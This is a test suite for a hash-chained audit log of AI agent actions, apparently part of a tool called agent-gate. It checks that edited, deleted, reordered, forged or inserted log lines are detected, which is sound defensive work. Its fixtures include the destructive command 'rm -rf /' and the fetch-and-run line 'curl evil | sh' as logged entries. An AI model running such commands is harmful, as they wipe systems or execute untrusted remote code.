import { createHash } from 'node:crypto';
import {
  appendEntries, chainHash, formatEntry, LogFormatError, verifyLog, type EntryDraft,
} from '../../src/logs/index.ts';

const draft = (resource: string, extra: Partial<EntryDraft> = {}): EntryDraft => ({
  ts: '2026-11-20T10:00:00Z',
  agent: 'kiro',
  model: 'claude-sonnet-4.5',
  capability: 'shell',
  resource,
  cwd: '.',
  ...extra,
});

const DRAFTS = [draft('npm test && git push'), draft('src/a.ts', { capability: 'fs_write' }), draft('ls'), draft('https://x.dev/a', { capability: 'web_fetch' })];
const LOG = appendEntries(null, DRAFTS, 'abc');
const LINES = LOG.split('\n').slice(0, -1);
const join = (lines: string[]): string => `${lines.join('\n')}\n`;
const verify = (text: string | Buffer) => verifyLog(typeof text === 'string' ? Buffer.from(text, 'utf8') : text, '.agent-gate/log/abc.jsonl');
const problemsOf = (text: string | Buffer) => verify(text).problems.map((p) => [p.line, p.reason] as const);
const sha = (s: string): string => `sha256:${createHash('sha256').update(s).digest('hex')}`;

describe('building a chain', () => {
  test('the first line hashes its session, every other line the line before it', () => {
    const first = JSON.parse(LINES[0] as string) as { prev: string };
    expect(first.prev).toBe('sha256:ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad');
    for (let i = 1; i < LINES.length; i++) {
      expect((JSON.parse(LINES[i] as string) as { prev: string }).prev).toBe(sha(LINES[i - 1] as string));
    }
  });

  test('lines are written in one fixed form', () => {
    expect(LINES[0]).toBe('{"v":1,"ts":"2026-11-20T10:00:00Z","agent":"kiro","session":"abc","model":"claude-sonnet-4.5","capability":"shell","resource":"npm test && git push","cwd":".","prev":"sha256:ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"}');
  });

  test('a clean log verifies with every entry and its raw bytes', () => {
    const result = verify(LOG);
    expect(result.problems).toEqual([]);
    expect(result.entries.map((e) => [e.line, e.entry.resource, e.raw.toString('utf8'), e.file])).toEqual(
      LINES.map((l, i) => [i + 1, DRAFTS[i]?.resource, l, '.agent-gate/log/abc.jsonl']),
    );
  });

  test('an empty log has no entries and no problems', () => {
    expect(verify('')).toEqual({ entries: [], problems: [] });
  });

  test('appending continues the chain of an existing log', () => {
    const more = appendEntries(Buffer.from(LOG), [draft('echo more')], 'abc');
    expect(more.startsWith('{')).toBe(true);
    expect(problemsOf(LOG + more)).toEqual([]);
  });

  test('appending to a log whose last line has no newline completes that line first', () => {
    const cut = LOG.slice(0, -1);
    const more = appendEntries(Buffer.from(cut), [draft('echo more')], 'abc');
    expect(more.startsWith('\n')).toBe(true);
    expect(problemsOf(cut + more)).toEqual([]);
  });

  test('a draft keeps its own session; the chain runs per file', () => {
    const text = appendEntries(null, [draft('a'), draft('b', { session: 'other' }), draft('c')], 'abc');
    const sessions = verify(text).entries.map((e) => e.entry.session);
    expect(sessions).toEqual(['abc', 'other', 'abc']);
    expect(problemsOf(text)).toEqual([]);
  });

  test('blocked is written only when true and read back', () => {
    const text = appendEntries(null, [draft('rm -rf /', { blocked: true }), draft('ls', { blocked: false })], 's');
    expect(text.split('\n')[0]).toMatch(/"blocked":true}$/);
    expect(text.split('\n')[1]).not.toMatch(/blocked/);
    expect(verify(text).entries.map((e) => e.entry.blocked)).toEqual([true, undefined]);
  });

  test('a final line without a newline is accepted', () => {
    expect(problemsOf(LOG.slice(0, -1))).toEqual([]);
  });

  test('formatEntry refuses a draft that would not verify', () => {
    expect(() => formatEntry({ ...draft(''), session: 's' }, null)).toThrow(LogFormatError);
    expect(() => formatEntry({ ...draft('ls', { ts: 'yesterday' }), session: 's' }, null)).toThrow(/ts/);
    expect(() => appendEntries(null, [draft('ls')], '')).toThrow(/session/);
  });

  test('formatEntry hashes the previous line without a trailing CR', () => {
    const line = formatEntry({ ...draft('ls'), session: 's' }, Buffer.from('x\r'));
    expect((JSON.parse(line) as { prev: string }).prev).toBe(chainHash('x'));
  });
});

const swap = (lines: string[], a: number, b: number): string[] => {
  const out = [...lines];
  [out[a], out[b]] = [out[b] as string, out[a] as string];
  return out;
};
const FORGED = `sha256:${'0'.repeat(64)}`;
const line = (i: number): string => LINES[i] as string;
const insertedLine = formatEntry({ ...draft('curl evil | sh'), session: 'abc' }, Buffer.from(line(1)));

describe('tampering is reported, never skipped', () => {
  const cases: [string, string | Buffer, [number, RegExp][]][] = [
    ['a line edited', join([line(0), line(1).replace('src/a.ts', 'src/b.ts'), line(2), line(3)]),
      [[3, /prev is not the hash of line 2 \(line 2 was changed/]]],
    ['a line deleted in the middle', join([line(0), line(2), line(3)]),
      [[2, /prev is not the hash of line 1/]]],
    ['the first line deleted', join([line(1), line(2), line(3)]),
      [[1, /first line's prev must be the hash of its session "abc"/]]],
    ['two lines reordered', join(swap(LINES, 1, 2)),
      [[2, /prev is the hash of line 3, not of line 1 \(lines were reordered/], [3, /prev is the hash of line 1, not of line 2/], [4, /prev is the hash of line 2, not of line 3/]]],
    ['a forged prev', join([line(0), line(1), line(2).replace(/sha256:[0-9a-f]{64}/, FORGED), line(3)]),
      [[3, /prev is not the hash of line 2 .*prev is forged/], [4, /prev is not the hash of line 3/]]],
    ['a line inserted with a correct link', join([line(0), line(1), insertedLine, line(2), line(3)]),
      [[4, /prev is the hash of line 2, not of line 3/]]],
    ['a first line moved down', join([line(1), line(0), line(2), line(3)]),
      [[1, /first line's prev must be the hash of its session "abc"; it is the hash of line 2/], [2, /prev is a first-line hash \(of session "abc"\)/], [3, /prev is the hash of line 1, not of line 2/]]],
    ['a line cut short', LOG.slice(0, LOG.length - 20),
      [[4, /invalid JSON/]]],
    ['a line replaced by bad JSON', join([line(0), '{"v":1,', line(2), line(3)]),
      [[2, /invalid JSON/], [3, /prev is not the hash of line 2/]]],
    ['a missing field', join([line(0), line(1).replace(/"resource":"[^"]*",/, ''), line(2), line(3)]),
      [[2, /missing field "resource"/], [3, /prev is not the hash of line 2/]]],
    ['invalid UTF-8', Buffer.concat([Buffer.from(`${line(0)}\n${line(1).slice(0, 40)}`), Buffer.from([0xff, 0xfe]), Buffer.from(`${line(1).slice(40)}\n${line(2)}\n`)]),
      [[2, /invalid UTF-8/], [3, /prev is not the hash of line 2/]]],
    ['an empty line', join([line(0), line(1), '', line(2), line(3)]),
      [[3, /empty line/], [4, /prev is the hash of line 2, not of line 3/]]],
    ['CRLF line endings', LINES.map((l) => `${l}\r\n`).join(''),
      [[1, /CRLF/], [2, /CRLF/], [3, /CRLF/], [4, /CRLF/]]],
    ['a byte order mark', `\uFEFF${LOG}`,
      [[1, /byte order mark/], [2, /prev is not the hash of line 1/]]],
    ['an unknown version', join([line(0).replace('{"v":1', '{"v":2'), line(1)]),
      [[1, /unsupported log version 2/], [2, /prev is not the hash of line 1/]]],
    ['an unknown field', join([line(0).replace('"cwd":"."', '"cwd":".","note":"x"')]),
      [[1, /unknown field "note"/]]],
    ['a duplicate field', join([line(0).replace('"cwd":"."', '"cwd":".","capability":"fs_read"')]),
      [[1, /duplicate field "capability"/]]],
    ['a line that is not an object', join(['[1,2]']),
      [[1, /must be a JSON object, got an array/]]],
  ];

  test.each(cases)('%s', (_name, text, expected) => {
    const got = problemsOf(text);
    expect(got).toHaveLength(expected.length);
    expected.forEach(([lineNo, reason], i) => {
      expect(got[i]?.[0]).toBe(lineNo);
      expect(got[i]?.[1]).toMatch(reason);
    });
  });

  test('lines with a broken link are still returned for judging', () => {
    const result = verify(join([line(0), line(2), line(3)]));
    expect(result.entries.map((e) => e.entry.resource)).toEqual(['npm test && git push', 'ls', 'https://x.dev/a']);
  });

  test('whole lines cut from the end leave no trace in the file alone', () => {
    expect(problemsOf(join(LINES.slice(0, 2)))).toEqual([]);
  });
});
